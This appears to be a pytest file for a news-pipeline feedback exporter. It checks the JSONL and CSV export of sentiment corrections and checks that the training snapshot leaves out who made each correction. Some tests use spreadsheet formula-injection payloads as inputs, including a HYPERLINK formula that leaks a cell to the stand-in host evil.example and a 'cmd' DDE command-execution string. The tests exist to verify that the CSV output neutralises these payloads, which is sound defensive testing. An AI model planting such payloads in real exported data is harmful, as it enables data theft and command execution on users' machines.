"""Export formats and the training snapshot (which leaves out who made each correction)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import update
from trends_helpers import add_article, add_feed, add_score

from pipeline.db.engine import Database
from pipeline.db.models import ArticleEntity
from pipeline.feedback import (
    CorrectionRow,
    list_corrections,
    record,
    training_examples,
    write_corrections,
    write_training_snapshot,
)

NOW = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
TITLE = 'Acme, "Beta" and\nnewlines: recall'


@pytest.fixture
def corrected(db: Database) -> Database:
    with db.transaction() as s:
        feed = add_feed(s, "https://news.example/rss", "Wire")
        article = add_article(s, feed, "a1", TITLE, NOW, tickers=("ACME",))
        s.execute(update(ArticleEntity).values(mention="Acme"))  # as the linker records it
        add_score(s, article, "positive", model="m1", scored_at=NOW)
        record(s, article, label="negative", who="ann@example.com", ticker="ACME", now=NOW)
    return db


def test_jsonl_and_csv_carry_every_field(corrected: Database) -> None:
    with corrected.session() as s:
        rows = list_corrections(s)
    out = io.StringIO()
    assert write_corrections(rows, out, "jsonl") == 1
    (line,) = out.getvalue().splitlines()
    row = json.loads(line)
    assert row["title"] == TITLE and row["label"] == "negative" and row["model_label"] == "positive"
    assert row["corrected_by"] == "ann@example.com" and row["corrected_at"] == NOW.isoformat()
    assert row["ticker"] == "ACME" and row["mention"] == "Acme"  # the span training marks
    out = io.StringIO()
    write_corrections(rows, out, "csv")
    (parsed,) = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert parsed["title"] == TITLE and parsed["ticker"] == "ACME" and parsed["mention"] == "Acme"
    with pytest.raises(ValueError, match="xml"):
        write_corrections(rows, io.StringIO(), "xml")


def test_nothing_to_export_is_empty_output(db: Database) -> None:
    out = io.StringIO()
    assert write_corrections([], out, "jsonl") == 0 and out.getvalue() == ""


def test_the_training_snapshot_leaves_out_who(corrected: Database, tmp_path: Path) -> None:
    path = tmp_path / "sub" / "feedback.jsonl"
    with corrected.session() as s:
        assert write_training_snapshot(training_examples(s), path) == 1
    (row,) = [json.loads(line) for line in path.read_text().splitlines()]
    assert row["title"] == TITLE and row["label"] == "negative"
    assert "corrected_by" not in row and "ann@example.com" not in path.read_text()


def _row(title: str, who: str = "ann") -> CorrectionRow:
    return CorrectionRow(
        id=7,
        article_id=42,
        ticker="ACME",
        label="negative",
        model_version="m1",
        model_label="positive",
        corrected_by=who,
        corrected_at=NOW,
        title=title,
        url="https://news.example/a1",
        mention="Acme",
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_cells_a_spreadsheet_would_run(start: str) -> None:
    title = start + 'HYPERLINK("http://evil.example/?leak="&A1,"x")'
    who = start + "cmd|' /C calc'!A0"
    out = io.StringIO()
    write_corrections([_row(title, who)], out, "csv")
    (parsed,) = list(csv.DictReader(io.StringIO(out.getvalue(), newline=None)))
    expected = "'" + title.replace("\r", "\n")  # a CR is written as a newline (below)
    assert parsed["title"] == expected and parsed["corrected_by"] == "'" + who.replace("\r", "\n")
    # Numbers stay numbers, and harmless text is untouched.
    assert parsed["id"] == "7" and parsed["article_id"] == "42"
    assert parsed["ticker"] == "ACME" and parsed["corrected_at"] == NOW.isoformat()


def test_csv_a_carriage_return_inside_a_cell_cannot_start_a_new_row() -> None:
    # Read as a spreadsheet does: any line break outside quotes ends the row.
    title = "Acme beats\r=cmd|' /C calc'!A0"  # no comma or quote, which would get it quoted
    out = io.StringIO()
    write_corrections([_row(title)], out, "csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline=None)))
    assert len(rows) == 1 and rows[0]["title"] == title.replace("\r", "\n")


def test_jsonl_keeps_formula_like_text_exact() -> None:
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    out = io.StringIO()
    write_corrections([_row(title, "@ann")], out, "jsonl")
    row = json.loads(out.getvalue())
    assert row["title"] == title and row["corrected_by"] == "@ann" and row["id"] == 7
